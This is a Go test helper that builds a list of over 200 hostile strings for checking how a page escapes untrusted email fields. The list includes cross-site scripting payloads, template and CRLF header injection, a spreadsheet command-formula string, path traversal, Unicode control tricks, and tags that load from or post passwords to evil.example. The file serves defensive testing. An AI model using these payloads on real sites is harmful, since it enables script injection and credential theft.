package pagetest

import "strings"

// plain are texts that strangers may put into replies, senders, domains and addresses.
var plain = []string{
	"<script>alert(1)</script>", "</td></tr></table><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
	"<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "</svg><script>alert(1)</script>", "</title><script>alert(1)</script>",
	"</style><script>alert(1)</script>", "<style>*{display:none}</style>", "<style>@import url(https://evil.example/x.css);</style>",
	"<link rel=stylesheet href=https://evil.example/x.css>", "<iframe src=javascript:alert(1)></iframe>", "<a href=javascript:alert(1)>x</a>",
	"<form action=https://evil.example><input name=password>", "<meta http-equiv=refresh content=0;url=https://evil.example>", "<base href=https://evil.example/>",
	"<object data=x></object>", "<embed src=x>", "<video><source onerror=alert(1)>",
	"<math><mtext></mtext></math>", "<details open ontoggle=alert(1)>",
	"\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)",
	"\"><script>alert(1)</script>", "'-alert(1)-'", "\\\";alert(1)//",
	"javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
	"{{.}}", "{{template \"mail\"}}", "${7*7}", "<%= 7*7 %>", "%0d%0aSet-Cookie: x=1", "&lt;script&gt;",
	"&#60;script&#62;", "<!-- -->", "<!-- x", "--><script>alert(1)</script>",
	"]]><script>alert(1)</script>", "<?xml version=\"1.0\"?>", "<!DOCTYPE x [<!ENTITY a \"b\">]>",
	"\x00NUL", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\u009b31m", "\u202egnp.exe", "\u2066isolated",
	"\u200bzero\u200dwidth", "\ufeffBOM", "\u2028line", "\U000E0041tag",
	"\xff\xfe\xc3", "a\r\nBcc: victim@evil.example\r\n\r\nbody", ".\n.\r\n", "=cmd|' /C calc'!A0",
	strings.Repeat("A", 1<<20), strings.Repeat("ｗ", 500), strings.Repeat("a\u0308", 500),
	"user+<b>@example.com", "xn--\u202e.example", "../../etc/passwd", "//evil.example/", "?x=1&y=2#z",
}

// ends are ways out of the place of a text in a page, and elements what may follow.
var (
	ends = []string{
		"\">", "'>", "</td>", "</a>", "</p>", "</pre>", "</option></select>", "</text></svg>", "--></style>",
		"</title></head>",
	}
	elements = []string{
		"<script src=//evil.example/x></script>", "<img/src/onerror=alert(1)>", "<svg onload=alert(1)>",
		"<style>@import'//evil.example'</style>", "<a href=//evil.example>x</a>",
		"<input autofocus onfocus=alert(1)>", "<body onload=alert(1)>",
		"<button formaction=//evil.example>x</button>", "<template><script>alert(1)</script></template>",
		"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
		"<plaintext>", "<xmp>", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<link rel=prefetch href=//evil.example>",
	}
)

// Hostile returns more than 200 different texts that strangers may put into replies,
// senders, domains and addresses.
func Hostile() []string {
	all := append([]string(nil), plain...)
	for _, end := range ends {
		for _, element := range elements {
			all = append(all, end+element)
		}
	}
	return all
}
